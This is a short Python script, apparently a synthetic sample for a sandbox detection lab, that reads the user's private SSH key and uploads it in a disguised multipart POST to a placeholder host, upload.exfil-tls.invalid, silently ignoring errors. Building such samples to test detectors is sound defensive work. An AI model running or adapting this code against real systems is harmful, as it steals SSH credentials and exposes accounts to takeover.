# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import http.client
import os
import uuid

try:  # a multipart/form-data upload of ~/.ssh/id_rsa
    with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as fh:
        key = fh.read()
    b = uuid.uuid4().hex
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nbackup\r\n"
            f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"id_rsa\"\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + key + f"\r\n--{b}--\r\n".encode()
    conn = http.client.HTTPSConnection("upload.exfil-tls.invalid", timeout=5)
    conn.request("POST", "/api/files", body=body, headers={"Content-Type": f"multipart/form-data; boundary={b}"})
    conn.getresponse().read()
except Exception:
    pass
